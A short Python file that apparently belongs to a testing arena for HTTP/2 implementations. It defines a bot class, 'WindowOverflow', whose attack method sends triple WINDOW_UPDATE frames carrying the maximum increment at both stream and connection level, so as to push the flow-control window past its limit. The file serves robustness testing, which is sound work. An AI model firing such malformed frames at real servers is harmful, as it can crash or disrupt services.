"""Allows more bytes than a window can count."""

from rawhttp2 import WINDOW_UPDATE, RawBot, frame, number

from arenabot.v1 import player_pb2 as player


class WindowOverflow(RawBot):
    def attack(self, request: player.PlayRequest) -> None:
        self.send(*[frame(WINDOW_UPDATE, number(0x7FFF_FFFF), stream=self.stream)] * 3)
        self.send(*[frame(WINDOW_UPDATE, number(0x7FFF_FFFF))] * 3)


if __name__ == "__main__":
    WindowOverflow().serve()
